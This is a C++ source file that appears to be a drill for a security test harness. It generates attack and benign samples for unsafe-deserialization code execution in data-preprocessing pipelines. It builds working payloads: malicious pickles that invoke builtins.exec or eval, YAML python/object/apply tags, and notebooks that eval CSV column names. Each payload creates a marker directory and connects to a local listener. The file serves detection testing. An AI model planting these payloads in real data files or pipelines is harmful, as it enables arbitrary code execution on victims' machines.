// prep-pipeline-code-exec enacted: a worker reads a pickle, a YAML document or a notebook with its table, and
// what it reads leaves a mark and dials out.
#include <array>

#include "core/json.h"
#include "drills/drill.h"
#include "drills/forges/assembler.h"
#include "drills/honest_models.h"
#include "drills/victims/preprocessing.h"

namespace sallyport::data_engineering::data_preprocessing {
namespace {

using drills::World;
namespace forges = drills::forges;

constexpr int kWays = 12;

struct Job {
  std::string file;
  std::vector<std::string> inputs;
  std::shared_ptr<drills::victims::Listener> listener;
};

Result<void> put(World& world, const std::string& name, std::string_view text) {
  Job& job = world.state<Job>();
  if (job.file.empty()) job.file = name;
  job.inputs.push_back(name);
  return world.write(name, text);
}

std::string pickle_of(std::size_t way, const std::string& payload) {
  const std::string text = forges::binunicode(payload);
  switch (way) {
    case 0:
      return forges::call(forges::global("builtins", "exec"), {text}) + ".";
    case 1:
      return forges::proto(2) + forges::global("__builtin__", "eval") + text + "\x85R.";
    case 2:
      return "(" + text + "ibuiltins\nexec\n.";
    default:
      return forges::proto(4) + forges::framed(forges::stack_global("builtins", "exec") + text + "\x85R.");
  }
}

std::string yaml_of(std::size_t way, const std::string& payload) {
  const std::string arguments = " [" + Json(payload).dump() + "]\n";
  switch (way) {
    case 0:
      return "encoder: !!python/object/apply:builtins.exec" + arguments;
    case 1:
      return "encoder: !<tag:yaml.org,2002:python/object/apply:builtins.exec>" + arguments;
    case 2:
      return "%TAG !e! tag:yaml.org,2002:python/object/apply:\n---\nencoder: !e!builtins.exec" + arguments;
    default:
      return "steps:\n  - name: scale\n  - !!python/object/apply:builtins.eval" + arguments;
  }
}

std::string notebook_of(const std::string& code) {
  const Json cells =
      Json::array({Json{{"cell_type", "markdown"}, {"source", {"# Cleaning\n"}}},
                   Json{{"cell_type", "code"}, {"outputs", Json::array()}, {"source", {code}}}});
  return pretty(Json{{"nbformat", 4}, {"nbformat_minor", 5}, {"metadata", Json::object()}, {"cells", cells}});
}

constexpr std::string_view kRead =
    "import csv\nwith open('table.csv') as file:\n    rows = list(csv.DictReader(file))\n";

std::string evaluating_cell(std::size_t way) {
  const std::string read(kRead);
  switch (way) {
    case 0:
      return read + "for column in rows[0]:\n    eval(column)\n";
    case 1:
      return read + "exec('\\n'.join(rows[0]))\n";
    case 2:
      return read + "import builtins as b\nfor column in rows[0]:\n    value = b.eval(column)\n";
    default:
      return read + "for column in rows[0]:\n    exec(f'value = {column}')\n";
  }
}

Result<void> attack(World& world) {
  Job& job = world.state<Job>();
  job.listener = std::make_shared<drills::victims::Listener>(TRY(drills::victims::Listener::open()));
  const std::string payload =
      "[__import__('os').mkdir('mark'), __import__('socket').create_connection(('127.0.0.1', " +
      std::to_string(job.listener->port()) + "))]";
  const std::size_t way = world.seed() % kWays;
  switch (way / 4) {
    case 0:
      return put(world, "features.pkl", pickle_of(way % 4, payload));
    case 1:
      return put(world, "steps.yaml", yaml_of(way % 4, payload));
    default:
      TRY(put(world, "clean.ipynb", notebook_of(evaluating_cell(way % 4))));
      return put(world, "table.csv", "\"" + payload + "\",age\n1,31\n");
  }
}

Result<void> honest(World& world) {
  const std::span<const drills::HonestModel> models = drills::honest_models();
  switch (world.seed() % 3) {
    case 0: {
      std::vector<std::string_view> tables;
      for (const drills::HonestModel& model : models) {
        if (model.name.starts_with("numpy") || model.name.starts_with("pandas"))
          tables.push_back(model.bytes);
      }
      return put(world, "features.pkl", tables[world.seed() / 3 % tables.size()]);
    }
    case 1:
      return put(world, "steps.yaml",
                 "steps:\n  - {name: scale, by: !!float 2}\n  - name: \"drop !!python\"\n");
    default:
      TRY(put(world, "clean.ipynb",
              notebook_of(std::string(kRead) + "ages = [float(row['age']) for row in rows]\n")));
      return put(world, "table.csv", "weight,age\n60,31\n");
  }
}

Result<void> victim(World& world) { return drills::victims::preprocess(world, world.state<Job>().file); }

bool harmed(const World& world) {
  const Job& job = world.state<Job>();
  return world.exists("mark") && job.listener != nullptr && job.listener->was_called();
}

Result<Subjects> present(World& world) {
  Subjects out;
  for (const std::string& name : world.state<Job>().inputs) {
    const Bytes& bytes = world.keep(TRY(world.read(name)));
    out.files.emplace_back(name, FileSubject{.path = name, .bytes = bytes});
  }
  return out;
}

}  // namespace

extern const drills::Drill unsafe_serialized_input_drill;
const drills::Drill unsafe_serialized_input_drill{
    .threat = "prep-pipeline-code-exec",
    .story =
        "a pickle, a YAML tag or a column name that a notebook evaluates leaves a mark and dials loopback",
    .honest_story = "pickles of NumPy and pandas, plain YAML, and a notebook that reads a column by its name",
    .attack = attack,
    .honest = honest,
    .victim = victim,
    .harmed = harmed,
    .present = present,
    .trials = kWays};

}  // namespace sallyport::data_engineering::data_preprocessing
